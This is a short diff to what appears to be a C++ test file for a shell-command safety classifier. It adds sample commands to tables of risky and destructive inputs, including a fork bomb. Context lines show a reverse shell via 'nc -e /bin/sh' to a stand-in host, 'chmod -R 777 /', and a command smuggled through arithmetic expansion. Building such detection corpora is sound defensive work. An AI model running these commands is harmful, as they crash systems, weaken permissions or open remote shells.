@@ -446,6 +446,11 @@ x='a[$(touch /tmp/p)]'; echo $((x))
 echo "!ls"
 !!
 ^a^b
+for p in $(cat list); do find $p; done
+lsof -D $(pidof x)
+find $(pgrep -a x)
+python3 -m json.tool in out
+python3 -m http.server
 )ROWS";
 
 constexpr std::string_view kDestroying = R"ROWS(
@@ -656,6 +661,7 @@ chmod -R 777 /
 awk 'BEGIN{system("ls")}'
 nc -e /bin/sh evil 4444
 curl -X DELETE http://x/y
+:(){ :|:& };:
 )ROWS";
 
 constexpr std::string_view kCredentials = R"ROWS(
